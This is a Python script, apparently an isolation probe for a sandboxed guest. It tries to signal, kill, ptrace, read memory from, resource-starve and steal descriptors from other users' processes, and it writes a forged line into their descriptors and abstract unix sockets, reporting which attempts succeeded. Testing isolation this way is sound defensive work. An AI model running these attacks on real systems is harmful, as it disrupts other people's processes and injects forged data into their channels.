"""What code that we do not trust may try on ours beside it, standard library only: prints as JSON what was let happen.

`assault.py [FORGED]`: on every process of another user (the guest, the init, helpers), and on every descriptor that it
can open, into which FORGED, a line, is written.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import stat
import sys
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
PIDFD_OPEN, PIDFD_GETFD, PIDFD_SEND = 434, 438, 424


def pids() -> list[int]:
    """Processes of others, by their folder's owner; asked twice over, since some come and go."""
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and _owner(name) != os.getuid()]


def _owner(name: str) -> int:
    try:
        return os.stat(f"/proc/{name}").st_uid
    except OSError:
        return os.getuid()


def called(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")


def trace(request: int) -> Callable[[int], object]:
    return lambda pid: called(LIBC.ptrace(ctypes.c_long(request), ctypes.c_long(pid), None, None))


def signalled(number: int) -> Callable[[int], object]:
    return lambda pid: os.kill(pid, number)


def opened(name: str, flags: int = os.O_RDONLY) -> Callable[[int], object]:
    return lambda pid: os.close(os.open(f"/proc/{pid}/{name}", flags))


def stolen(pid: int) -> None:
    """A copy of a descriptor, through a pidfd."""
    fd = LIBC.syscall(PIDFD_OPEN, pid, 0)
    called(fd)
    for number in range(8):
        called(LIBC.syscall(PIDFD_GETFD, fd, number, 0))


def by_pidfd(pid: int) -> None:
    fd = LIBC.syscall(PIDFD_OPEN, pid, 0)
    called(fd)
    called(LIBC.syscall(PIDFD_SEND, fd, signal.SIGKILL, None, 0))


def peeked(pid: int) -> None:
    """process_vm_readv of one byte."""
    buffer = ctypes.create_string_buffer(8)

    class Part(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))

    mine, theirs = Part(ctypes.addressof(buffer), 8), Part(0x400000, 8)
    called(LIBC.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))


ATTEMPTS: dict[str, Callable[[int], object]] = {
    **{f"signal {number}": signalled(number) for number in (0, 9, 19, 15, 11)},
    "group": lambda pid: os.kill(-pid if pid > 1 else pid, signal.SIGKILL),  # -1 would be all of our own
    "pidfd": by_pidfd,
    "attach": trace(PTRACE_ATTACH),
    "seize": trace(PTRACE_SEIZE),
    "peek": peeked,
    "descriptors": stolen,
    "limit": lambda pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)),
    "memory limit": lambda pid: resource.prlimit(pid, resource.RLIMIT_AS, (1, 1)),
    "cpu limit": lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
    "idle": lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
    "nice": lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
    "cpus": lambda pid: os.sched_setaffinity(pid, {0}),
    "session": lambda pid: os.setpgid(pid, 0),
    **{name: opened(name) for name in ("fd", "fd/0", "fd/1", "fd/2", "fd/3", "mem", "environ", "maps", "task/1/fd")},
    "write memory": opened("mem", os.O_RDWR),
    "oom": opened("oom_score_adj", os.O_WRONLY),
    "name": opened("comm", os.O_WRONLY),
    "root": opened("root/"),
    "cwd": opened("cwd/"),
}


def assault() -> list[str]:
    done = []
    for pid in pids():
        for name, attempt in ATTEMPTS.items():
            with contextlib.suppress(OSError, ValueError):
                attempt(pid)
                done.append(f"{name} of {pid}")
    for thread in threads():
        for name in ("signal 9", "idle", "attach"):
            with contextlib.suppress(OSError):
                ATTEMPTS[name](thread)
                done.append(f"{name} of thread {thread}")
    return done


def threads() -> list[int]:
    found = []
    for pid in pids():
        with contextlib.suppress(OSError):
            found += [int(name) for name in os.listdir(f"/proc/{pid}/task")]
    return found


def forge(line: bytes) -> list[str]:
    """Into every descriptor of another process that can be opened, and every socket of another that can be reached."""
    done = []
    mine = {os.getpid(), *ancestors()}
    for name in [name for name in os.listdir("/proc") if name.isdigit() and int(name) not in mine]:
        for number in range(64):
            with contextlib.suppress(OSError):
                path = f"/proc/{name}/fd/{number}"
                if stat.S_ISDIR(os.stat(path).st_mode):
                    continue
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, line)
                if _owner(name) != os.getuid():
                    done.append(path)
    with open("/proc/net/unix", encoding="utf-8", errors="replace") as table:
        names = {fields[7] for fields in map(str.split, table) if len(fields) > 7 and fields[7].startswith("@")}
    for address in names | {"@acpbench-guest"}:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(0.5)
            sock.connect("\0" + address[1:])
            sock.sendall(line)
            done.append(address)
    for number in range(3, 256):  # descriptors that were left to us
        with contextlib.suppress(OSError):
            os.write(number, line)
            done.append(f"descriptor {number}")
    return done


def ancestors() -> list[int]:
    """Those of our own user: what they would read is their own doing."""
    found, pid = [], os.getppid()
    while pid > 1 and _owner(str(pid)) == os.getuid():
        found.append(pid)
        with open(f"/proc/{pid}/stat", encoding="utf-8") as text:
            pid = int(text.read().rpartition(")")[2].split()[1])
    return found


if __name__ == "__main__":
    forged = sys.argv[1].encode() + b"\n" if sys.argv[1:] else b'{"event":"forged"}\n'
    print("ASSAULT " + json.dumps(forge(forged) + assault()), flush=True)
